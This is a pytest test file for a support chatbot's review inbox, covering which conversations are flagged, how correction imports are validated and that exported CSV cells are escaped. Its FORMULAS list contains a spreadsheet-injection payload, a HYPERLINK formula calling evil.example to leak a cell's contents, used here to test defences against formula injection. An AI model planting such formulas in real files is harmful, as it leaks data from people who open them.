"""The review inbox: which messages are worth a look, and what an import refuses."""
import shutil
import time

import pytest

from assistant.review.inbox import ImportRefused, import_corrections, rows_of_conversation
from tests.conftest import ROOT, held_out_examples
from tests.stored_events import action, handoff, rewind, user


def reasons(events, since=0):
    return [(row.text, row.predicted_intent, row.reasons) for row in rows_of_conversation("c", events, since)]


def test_a_conversation_that_went_well_has_nothing_to_review():
    assert reasons([user("jag får ingen sms-kod", "no_sms_code", 0.99),
                    action("utter_no_sms_code_check_operator"), action("utter_ask_did_it_help"),
                    action("action_listen"), user("/affirm", "affirm", 1.0),
                    action("utter_glad_it_helped")]) == []


def test_fallbacks_unsure_answers_and_unhelpful_advice_are_listed():
    events = [
        user("blorp", "nlu_fallback", 0.4), action("action_ask_rephrase_or_handoff"),
        user("hur länge gäller sidan", "faq", 0.95, faq_key="faq/time_limit_per_page"),
        action("utter_faq"),
        user("kortet nekas", "card_payment_failed", 0.97), action("utter_card_payment_contact_bank"),
        action("utter_ask_did_it_help"), action("action_listen"), user("nej", "deny", 0.99),
        *handoff(),
    ]
    assert reasons(events) == [
        ("blorp", "nlu_fallback", ["fallback", "handoff"]),
        # A page question: the ResponseSelector's choice and its (low) confidence.
        ("hur länge gäller sidan", "faq/time_limit_per_page", ["low confidence", "handoff"]),
        ("kortet nekas", "card_payment_failed", ["unhelpful", "handoff"]),
        ("nej", "deny", ["handoff"]),
    ]


def test_button_clicks_and_old_messages_are_left_out():
    old = time.time() - 30 * 86400
    events = [user("blorp", "nlu_fallback", 0.3, at=old), action("action_ask_rephrase_or_handoff"),
              user("/request_human", "request_human", 1.0), *handoff()]
    assert reasons(events, since=time.time() - 7 * 86400) == []


def test_bad_rows_are_reported_and_nothing_is_written(tmp_path):
    data = tmp_path / "data"
    shutil.copytree(ROOT / "data", data)
    before = {p: p.read_text(encoding="utf-8") for p in (data / "nlu").rglob("*.yml")}
    bad = tmp_path / "bad.csv"
    bad.write_text(
        "\ufefflanguage;text;correct_intent\n"
        "sv;mitt kort fungerar inte alls just nu;card_payment_failed\n"  # fine on its own
        "sv;vad kostar det;no_such_intent\n"
        "en;   ;no_email\n"
        "sv;jag har inte fått något mejl från er;no_email\n",  # a duplicate
        encoding="utf-8",
    )

    with pytest.raises(ImportRefused) as refusal:
        import_corrections(bad, data / "nlu", ROOT / "tests" / "nlu", validate=False)

    message = str(refusal.value)
    assert "row 3: unknown intent 'no_such_intent'" in message
    assert "row 4: the text is empty" in message
    assert {p: p.read_text(encoding="utf-8") for p in (data / "nlu").rglob("*.yml")} == before


def test_held_out_test_sentences_stay_out_of_training(tmp_path):
    from assistant.review.evaluation import held_out, other_language_sentences

    clean = held_out_examples("en")[0]
    story = next((t, i) for t, i, c in held_out("sv") if c == "story")
    foreign, _ = other_language_sentences()[0]
    data = tmp_path / "data"
    shutil.copytree(ROOT / "data", data)
    corrections = tmp_path / "c.csv"
    corrections.write_text(f"language;text;correct_intent\nen;{clean[0]};{clean[1]}\nsv;{story[0]};{story[1]}\n"
                           f"sv;{foreign};greet\n", encoding="utf-8")

    result = import_corrections(corrections, data / "nlu", ROOT / "tests" / "nlu", validate=False)

    assert result.added == []
    assert len(result.skipped) == 3 and all("held-out" in reason for reason in result.skipped)


def test_a_misunderstanding_between_question_and_no_still_marks_the_advice_unhelpful():
    events = [
        user("mejlet kommer inte", "no_email", 0.97), action("utter_no_email_check_spam"),
        action("utter_ask_did_it_help"), action("action_listen"),
        user("blorp", "nlu_fallback", 0.3), action("action_ask_rephrase_or_handoff"), rewind(),
        action("action_listen"), user("/deny", "deny", 1.0), action("utter_no_email_check_address"),
    ]
    assert reasons(events) == [("mejlet kommer inte", "no_email", ["unhelpful"]),
                               ("blorp", "nlu_fallback", ["fallback"])]


FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"klicka")', "+46 70 123", "-2+3", "@SUM(A1:A9)",
            "\tindrag", "\r=1+1", "'=citerad", "'vanlig", "  =1+1", "hej;=1+1", 'säger "hej"', "-"]


def test_the_inbox_file_runs_no_formula_and_reads_back_as_written(tmp_path):
    from assistant.review.inbox import Row, write_csv
    from assistant.review.spreadsheet import read_rows

    rows = [Row(conversation=text, timestamp=0, language="sv", text=text, predicted_intent="nlu_fallback",
                confidence=0.4, reasons=["fallback"]) for text in FORMULAS]
    path = tmp_path / "inbox.csv"
    write_csv(rows, path)

    # What a spreadsheet sees: every cell quoted, none starting with a formula character.
    import csv

    with path.open(encoding="utf-8-sig", newline="") as file:
        cells = [cell for row in csv.reader(file, delimiter=";") for cell in row]
    assert all(not cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
    assert path.read_text(encoding="utf-8-sig").count('"') >= 2 * len(cells)
    # Read back (as an import does), each text is what the user wrote.
    back = read_rows(path)
    assert [row["text"] for row in back] == FORMULAS
    assert [row["conversation"] for row in back] == FORMULAS


def test_a_corrected_formula_like_message_is_imported_as_its_text(tmp_path):
    from assistant.review.inbox import Row, write_csv
    from assistant.review.spreadsheet import read_rows, write_rows

    data = tmp_path / "data"
    shutil.copytree(ROOT / "data", data)
    exported = tmp_path / "inbox.csv"
    write_csv([Row("c", 0, "sv", "-jag får ingen kod alls på mobilen", "nlu_fallback", 0.4, ["fallback"])], exported)
    rows = read_rows(exported)
    rows[0]["correct_intent"] = "no_sms_code"
    write_rows(exported, list(rows[0]), rows)  # as the support lead saves it

    result = import_corrections(exported, data / "nlu", ROOT / "tests" / "nlu", validate=False)

    assert [(intent, text) for _, intent, text in result.added] == [("no_sms_code", "-jag får ingen kod alls på mobilen")]
    assert "- -jag får ingen kod alls på mobilen" in (data / "nlu" / "sv" / "no_sms_code.yml").read_text(encoding="utf-8")


def test_a_sentence_is_learnt_as_one_intent_only_and_annotations_are_not_written(tmp_path):
    from assistant.review.inbox import add_examples
    from assistant.review.training_data import examples_by_intent

    data = tmp_path / "data"
    shutil.copytree(ROOT / "data", data)
    existing = examples_by_intent(data / "nlu" / "en")["faq/time_limit_per_page"][1][0]
    rows = [{"language": "en", "text": existing, "correct_intent": "faq/form_navigation_buttons"},
            {"language": "en", "text": "my [code](language) never comes", "correct_intent": "no_sms_code"},
            {"language": "en", "text": "the code never ever comes", "correct_intent": "no_sms_code"},
            {"language": "en", "text": "The code  never EVER comes", "correct_intent": "no_email"},
            {"language": "en", "text": 'the [code][{"entity": "language"}] is late', "correct_intent": "no_sms_code"}]
    before = (data / "nlu" / "en" / "faq_application.yml").read_text(encoding="utf-8")

    result = add_examples(rows, data / "nlu", ROOT / "tests" / "nlu", validate=False)

    assert [text for _, _, text in result.added] == ["the code never ever comes"]
    assert result.skipped_rows == {0: "already_trained", 1: "annotation", 3: "already_trained", 4: "annotation"}
    assert "already a training example of faq/time_limit_per_page" in result.skipped[0]
    assert examples_by_intent(data / "nlu" / "en")["faq/form_navigation_buttons"][1].count(existing) == 0
    assert (data / "nlu" / "en" / "faq_application.yml").read_text(encoding="utf-8") == before
